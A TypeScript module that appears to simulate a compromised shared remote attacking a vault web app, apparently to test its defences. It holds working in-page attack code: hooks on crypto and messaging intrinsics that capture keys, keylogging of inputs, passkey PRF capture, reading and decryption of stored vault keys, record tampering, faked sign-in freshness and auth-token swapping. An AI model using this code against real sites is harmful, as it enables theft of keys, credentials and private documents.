/**
 * Code of a hostile team. Each function runs in the portal's page: its source is put into a release
 * of the sharing remote, or runs as that release's code would. None may use anything around it.
 */

/** How something was taken. */
export type Way = "worker" | "messages" | "intrinsics" | "inputs" | "screen" | "blobs" | "ports";

export interface Needle {
  readonly name: string;
  readonly text?: string;
  /** Of the bytes, inside longer ones too. */
  readonly hex?: string;
  /** SHA-256 of more than 4096 bytes, in hex. */
  readonly digest?: string;
}

export interface Find {
  readonly name: string;
  readonly way: Way;
}

interface HostileGlobals {
  hostile?: {
    readonly find: (needles: readonly Needle[]) => readonly Find[];
    /** Outputs of passkeys, in hex. */
    readonly listPrfOutputs: () => readonly string[];
  };
}

/** Hooks what a script of the page can hook, and records what passes from then on. */
export function installHostileRemote(): void {
  const globals = globalThis as typeof globalThis & HostileGlobals;
  if (globals.hostile !== undefined) return;
  const taken = new Map<string, Set<string>>();
  const keep = (way: string, value: string): void => {
    const values = taken.get(way) ?? new Set();
    taken.set(way, values);
    if (values.size < 50_000) values.add(value);
  };

  /** Reads what passes through the intrinsics of a page or a worker. */
  function watchRealm(report: (way: string, value: string) => void): (way: string, value: unknown) => void {
    type Method = (this: unknown, ...args: unknown[]) => unknown;
    const digest = crypto.subtle.digest.bind(crypto.subtle);
    const readBlob: (this: Blob) => Promise<ArrayBuffer> = Reflect.get(Blob.prototype, "arrayBuffer");
    const typedArray = Object.getPrototypeOf(Uint8Array.prototype) as object;
    const toHex = (bytes: Uint8Array): string => {
      let text = "";
      for (const byte of bytes) text += (byte < 16 ? "0" : "") + byte.toString(16);
      return text;
    };
    const take = (way: string, value: unknown, depth = 0): void => {
      if (typeof value === "string") {
        if (value.length >= 8) report(way, `t:${value.slice(0, 100_000)}`);
      } else if (value instanceof ArrayBuffer || ArrayBuffer.isView(value)) {
        const bytes = ArrayBuffer.isView(value)
          ? new Uint8Array(value.buffer, value.byteOffset, value.byteLength)
          : new Uint8Array(value);
        if (bytes.length >= 16 && bytes.length <= 4096) report(way, `h:${toHex(bytes)}`);
        else if (bytes.length > 4096)
          void digest("SHA-256", bytes.slice()).then((hash) => {
            report(way, `d:${toHex(new Uint8Array(hash))}`);
          });
      } else if (value instanceof Blob) {
        void readBlob.call(value).then((bytes) => {
          take(way, bytes);
        });
      } else if (typeof value === "object" && value !== null && depth < 12) {
        for (const member of Array.isArray(value) ? value.slice(0, 500) : Object.values(value))
          take(way, member, depth + 1);
      }
    };
    const wrap = (holder: object | undefined, name: string, makeWrapper: (original: Method) => Method): void => {
      const original = holder === undefined ? undefined : (Reflect.get(holder, name) as unknown);
      if (holder === undefined || typeof original !== "function") return;
      Reflect.defineProperty(holder, name, {
        value: makeWrapper(original as Method),
        configurable: true,
        writable: true,
      });
    };
    const watchArguments =
      (way: string) =>
      (original: Method): Method =>
        function (this: unknown, ...args) {
          take(way, args);
          return original.apply(this, args);
        };
    const watchResult = (original: Method): Method =>
      function (this: unknown, ...args) {
        const result = original.apply(this, args);
        void Promise.resolve(result).then(
          (value) => {
            take("intrinsics", value);
          },
          () => undefined,
        );
        return result;
      };
    const watchThis = (original: Method): Method =>
      function (this: unknown, ...args) {
        if (ArrayBuffer.isView(this) && this.byteLength <= 4096) take("intrinsics", this); // wiped by `fill(0)`
        take("intrinsics", args[0]);
        return original.apply(this, args);
      };

    for (const name of ["Worker", "MessagePort", "BroadcastChannel", "DedicatedWorkerGlobalScope"]) {
      const constructor = Reflect.get(globalThis, name) as { prototype: object } | undefined;
      wrap(constructor?.prototype, "postMessage", watchArguments("messages"));
    }
    wrap(globalThis, "postMessage", watchArguments("messages"));
    const data = Object.getOwnPropertyDescriptor(MessageEvent.prototype, "data");
    Object.defineProperty(MessageEvent.prototype, "data", {
      configurable: true,
      get(this: MessageEvent) {
        const value: unknown = data?.get?.call(this);
        take("messages", value);
        return value;
      },
    });
    wrap(TextEncoder.prototype, "encode", watchArguments("intrinsics"));
    wrap(TextDecoder.prototype, "decode", watchResult);
    wrap(
      String.prototype,
      "normalize",
      (original) =>
        function (this: unknown, ...args) {
          take("intrinsics", String(this));
          return original.apply(this, args);
        },
    );
    for (const name of ["fill", "set", "slice"]) wrap(typedArray, name, watchThis);
    const subtle = SubtleCrypto.prototype;
    const exportRaw = crypto.subtle.exportKey.bind(crypto.subtle, "raw") as (key: CryptoKey) => Promise<ArrayBuffer>;
    wrap(subtle, "importKey", watchArguments("intrinsics"));
    for (const name of ["deriveBits", "decrypt", "exportKey"]) wrap(subtle, name, watchResult);
    wrap(
      subtle,
      "deriveKey",
      (original) =>
        function (this: unknown, ...args) {
          const extractable = original.apply(this, args.with(3, true)) as Promise<CryptoKey>;
          void extractable.then(exportRaw).then(
            (bytes) => {
              take("intrinsics", bytes);
            },
            () => undefined,
          );
          return original.apply(this, args);
        },
    );
    return take;
  }

  /** Runs first in each replaced worker. */
  const workerPrefix = `{
    const channel = new BroadcastChannel("hostile");
    const send = BroadcastChannel.prototype.postMessage.bind(channel);
    const seen = new Set();
    (${watchRealm.toString()})((way, value) => {
      if (seen.has(value) || seen.size > 20000) return;
      seen.add(value);
      send(value);
    });
  }\n`;

  const channel = new BroadcastChannel("hostile");
  const dataProperty = Object.getOwnPropertyDescriptor(MessageEvent.prototype, "data");
  const readData = (event: MessageEvent): unknown => dataProperty?.get?.call(event);
  channel.onmessage = (event) => {
    keep("worker", String(readData(event)));
  };
  const originals = { Worker, MessageChannel, createObjectURL: URL.createObjectURL.bind(URL) };
  const take = watchRealm(keep);

  const blobs = new Map<string, Blob>();
  URL.createObjectURL = (object) => {
    const url = originals.createObjectURL(object);
    if (object instanceof Blob) {
      blobs.set(url, object);
      take("blobs", object);
    }
    return url;
  };
  globalThis.Worker = class extends originals.Worker {
    constructor(url: string | URL, options?: WorkerOptions) {
      const script = blobs.get(String(url));
      super(
        script === undefined
          ? url
          : originals.createObjectURL(new Blob([workerPrefix, script], { type: "text/javascript" })),
        options,
      );
    }
  };
  /** Each port that the page makes leads through this code. */
  globalThis.MessageChannel = class {
    readonly port1: MessagePort;
    readonly port2: MessagePort;
    constructor() {
      const [near, far] = [new originals.MessageChannel(), new originals.MessageChannel()];
      const relay = (from: MessagePort, to: MessagePort): void => {
        from.onmessage = (event) => {
          const message = readData(event);
          take("ports", message);
          const streams = [...event.ports] as Transferable[];
          const visit = (value: unknown, depth: number): void => {
            if (typeof value !== "object" || value === null || depth > 12) return;
            if (value instanceof ReadableStream || value instanceof WritableStream || value instanceof TransformStream)
              streams.push(value);
            else if (!ArrayBuffer.isView(value)) for (const member of Object.values(value)) visit(member, depth + 1);
          };
          visit(message, 0);
          to.postMessage(message, streams);
        };
      };
      relay(near.port2, far.port1);
      relay(far.port1, near.port2);
      this.port1 = near.port1;
      this.port2 = far.port2;
    }
  };

  for (const type of ["input", "change", "drop", "paste"])
    addEventListener(
      type,
      (event) => {
        const [target] = event.composedPath();
        if (!(target instanceof HTMLInputElement || target instanceof HTMLTextAreaElement)) return;
        take("inputs", target instanceof HTMLInputElement && target.files !== null ? [...target.files] : target.value);
      },
      true,
    );
  new MutationObserver(() => {
    const words = [...document.querySelectorAll("ol li, [role=listitem]")].map((item) => item.textContent.trim());
    keep("screen", `t:${words.join(" ")}`);
  }).observe(document, { subtree: true, childList: true, characterData: true });

  const prfOutputs = new Set<string>();
  if ("CredentialsContainer" in globalThis)
    for (const name of ["create", "get"] as const) {
      const original = CredentialsContainer.prototype[name] as (...args: unknown[]) => Promise<Credential | null>;
      Reflect.defineProperty(CredentialsContainer.prototype, name, {
        configurable: true,
        value: async function (this: CredentialsContainer, ...args: unknown[]) {
          const credential = await original.apply(this, args);
          const output =
            credential instanceof PublicKeyCredential
              ? credential.getClientExtensionResults().prf?.results?.first
              : undefined;
          if (output !== undefined) {
            const bytes = ArrayBuffer.isView(output) ? new Uint8Array(output.buffer) : new Uint8Array(output);
            prfOutputs.add([...bytes].map((byte) => byte.toString(16).padStart(2, "0")).join(""));
          }
          return credential;
        },
      });
    }

  globals.hostile = {
    find: (needles) =>
      needles.flatMap(({ name, text, hex, digest }) =>
        [...taken].flatMap(([way, values]) =>
          [...values].some(
            (value) =>
              (text !== undefined && value.startsWith("t:") && value.includes(text)) ||
              (hex !== undefined && value.startsWith("h:") && value.includes(hex)) ||
              (digest !== undefined && value === `d:${digest}`),
          )
            ? [{ name, way: way as Way }]
            : [],
        ),
      ),
    listPrfOutputs: () => [...prfOutputs],
  };
}

export function isHostileRemoteInstalled(): boolean {
  return (globalThis as HostileGlobals).hostile !== undefined;
}

export function findTaken(needles: readonly Needle[]): readonly Find[] {
  return (globalThis as HostileGlobals).hostile?.find(needles) ?? [];
}

export function listPrfOutputs(): readonly string[] {
  return (globalThis as HostileGlobals).hostile?.listPrfOutputs() ?? [];
}

/**
 * Reads the vault's databases: in the page's own origin, in the frames that are there, and in a
 * frame of the vault that the attacker makes.
 */
export async function readVaultStorage(vaultOrigin: string): Promise<string | null> {
  const open = (name: string): Promise<IDBDatabase> =>
    new Promise((resolve, reject) => {
      const request = indexedDB.open(name);
      request.onsuccess = () => resolve(request.result);
      request.onerror = () => reject(new Error(name));
    });
  const readAll = (database: IDBDatabase, store: string): Promise<readonly unknown[]> =>
    new Promise((resolve, reject) => {
      const request = database.transaction(store).objectStore(store).getAll();
      request.onsuccess = () => resolve(request.result);
      request.onerror = () => reject(new Error(store));
    });
  for (const { name } of await indexedDB.databases()) {
    if (name === undefined || !name.startsWith("relicario-vault")) continue;
    const database = await open(name);
    for (const store of database.objectStoreNames) {
      const records = await readAll(database, store);
      const keys = JSON.stringify(records, (_key, value: unknown) =>
        value instanceof CryptoKey ? `CryptoKey ${value.usages.join()}` : value,
      ).match(/CryptoKey [a-zA-Z,]+/g);
      if (keys !== null) {
        database.close();
        return `${name}/${store}: ${keys.join("; ")}`;
      }
    }
    database.close();
  }
  const frame = document.createElement("iframe");
  frame.src = `${vaultOrigin}/controller`;
  const loaded = new Promise((resolve) => {
    frame.onload = resolve;
    setTimeout(resolve, 5_000);
  });
  document.body.append(frame);
  await loaded;
  for (let index = 0; index < frames.length; index++) {
    try {
      const databases = await frames[index]?.indexedDB.databases();
      if (databases?.some(({ name }) => name?.startsWith("relicario-vault"))) return `frame ${String(index)}`;
    } catch {
      continue; // another origin
    }
  }
  frame.remove();
  return null;
}

/** Uses the stored keys: opens documents of the account without any opener. Returns how many. */
export async function useStoredKeys(documents: readonly string[]): Promise<string | null> {
  const decode = (text: string): Uint8Array<ArrayBuffer> =>
    Uint8Array.from(atob(text.replaceAll("-", "+").replaceAll("_", "/")), (letter) => letter.charCodeAt(0));
  const keys: CryptoKey[] = [];
  const visit = (value: unknown): void => {
    if (value instanceof CryptoKey) keys.push(value);
    else if (typeof value === "object" && value !== null && !ArrayBuffer.isView(value))
      for (const member of Object.values(value)) visit(member);
  };
  for (const { name } of await indexedDB.databases()) {
    if (name !== "relicario-vault") continue;
    const database = await new Promise<IDBDatabase>((resolve, reject) => {
      const request = indexedDB.open(name);
      request.onsuccess = () => resolve(request.result);
      request.onerror = () => reject(new Error(name));
    });
    for (const store of database.objectStoreNames)
      visit(
        await new Promise((resolve) => {
          const request = database.transaction(store).objectStore(store).getAll();
          request.onsuccess = () => resolve(request.result);
        }),
      );
    database.close();
  }
  const opened: string[] = [];
  for (const document of documents) {
    const [header = "", , iv = "", text = "", tag = ""] = document.split(".");
    const data = new Uint8Array([...decode(text), ...decode(tag)]);
    for (const key of keys) {
      const parameters = { name: "AES-GCM", iv: decode(iv), additionalData: new TextEncoder().encode(header) };
      await crypto.subtle.decrypt(parameters, key, data).then(
        () => opened.push(atob(header)),
        () => undefined,
      );
    }
  }
  return opened.length === 0 ? null : opened.join();
}

/** Changes what the vault stores: unlocks every account's record. Returns the changed records. */
export async function writeVaultStorage(): Promise<string | null> {
  for (const { name } of await indexedDB.databases()) {
    if (name !== "relicario-vault") continue;
    const database = await new Promise<IDBDatabase>((resolve, reject) => {
      const request = indexedDB.open(name);
      request.onsuccess = () => resolve(request.result);
      request.onerror = () => reject(new Error(name));
    });
    const changed = await new Promise<number>((resolve) => {
      const store = database.transaction("accounts", "readwrite").objectStore("accounts");
      let count = 0;
      store.openCursor().onsuccess = ({ target }) => {
        const cursor = (target as IDBRequest<IDBCursorWithValue | null>).result;
        if (cursor === null) {
          resolve(count);
          return;
        }
        cursor.update({ ...(cursor.value as object), hostile: true });
        count += 1;
        cursor.continue();
      };
    });
    database.close();
    if (changed > 0) return `${String(changed)} records of ${name}`;
  }
  return null;
}

/** Runs a worker of the vault by its own hand, and has it answer a call. */
export async function startVaultWorker(addresses: readonly string[]): Promise<string | null> {
  const ping = (worker: Worker): Promise<boolean> =>
    new Promise((resolve) => {
      const end = (answered: boolean): void => {
        worker.terminate();
        resolve(answered);
      };
      worker.onmessage = () => end(true);
      worker.onerror = () => end(false);
      setTimeout(() => end(false), 10_000);
      worker.postMessage({ id: "1", type: "APPLY", path: ["ping"], argumentList: [] });
    });
  for (const address of addresses) {
    const sources: (() => Promise<string>)[] = [
      () => Promise.resolve(address),
      async () => URL.createObjectURL(new Blob([await (await fetch(address)).text()], { type: "text/javascript" })),
    ];
    for (const getSource of sources) {
      try {
        if (await ping(new Worker(await getSource()))) return address;
      } catch {
        continue; // refused at once
      }
    }
  }
  return null;
}

/** Asks for the vault's passkey with the vault's PRF input, in the name of each of these hosts. */
export async function usePasskey(hosts: readonly string[]): Promise<string | null> {
  const input = await crypto.subtle.digest("SHA-256", new TextEncoder().encode("relicario/v1/prf"));
  for (const rpId of hosts) {
    try {
      const credential = await navigator.credentials.get({
        publicKey: {
          rpId,
          challenge: new Uint8Array(32),
          userVerification: "required",
          timeout: 5_000,
          extensions: { prf: { eval: { first: input } } },
        },
      });
      const output = (credential as PublicKeyCredential).getClientExtensionResults().prf?.results?.first;
      if (output !== undefined) {
        const bytes = ArrayBuffer.isView(output) ? new Uint8Array(output.buffer) : new Uint8Array(output);
        return `${rpId}: ${[...bytes].map((byte) => byte.toString(16).padStart(2, "0")).join("")}`;
      }
    } catch {
      continue; // refused, or no passkey of this host
    }
  }
  return null;
}

/** Registers a script of its release as a service worker, for the whole origin or its folder. */
export async function registerServiceWorker(script: string): Promise<string | null> {
  if (!("serviceWorker" in navigator)) return null;
  for (const options of [{ scope: "/" }, {}]) {
    try {
      return (await navigator.serviceWorker.register(script, options)).scope;
    } catch {
      continue; // refused
    }
  }
  return null;
}

/** Pretends that the person has just signed in again: dates the stored sign-in into the future. */
export function fakeFreshSignIn(): boolean {
  for (const name of Object.keys(sessionStorage)) {
    if (!name.startsWith("oidc.user:")) continue;
    const user = JSON.parse(sessionStorage.getItem(name) ?? "") as { profile: { auth_time?: number } };
    user.profile.auth_time = Math.floor(Date.now() / 1000) + 3_600;
    sessionStorage.setItem(name, JSON.stringify(user));
    return true;
  }
  return false;
}

export function readSessionToken(): string {
  return sessionStorage.getItem("sessionToken") ?? "";
}

/** Has the calls of this page sent with another account's token. */
export function sendForeignToken(token: string): void {
  const set: (this: Headers, name: string, value: string) => void = Reflect.get(Headers.prototype, "set");
  Headers.prototype.set = function (name, value) {
    set.call(this, name, name === "authorization" ? `Bearer ${token}` : value);
  };
}

/** Stores another account's token for the next load of the page, and removes the pinned account. */
export async function leaveForeignToken(token: string): Promise<void> {
  sessionStorage.setItem("sessionToken", token);
  for (const { name } of await indexedDB.databases()) {
    if (name === undefined) continue;
    const database = await new Promise<IDBDatabase>((resolve, reject) => {
      const request = indexedDB.open(name);
      request.onsuccess = () => resolve(request.result);
      request.onerror = () => reject(new Error(name));
    });
    if (database.objectStoreNames.contains("people")) {
      const transaction = database.transaction("people", "readwrite");
      transaction.objectStore("people").clear();
      await new Promise((resolve) => {
        transaction.oncomplete = resolve;
      });
    }
    database.close();
  }
}
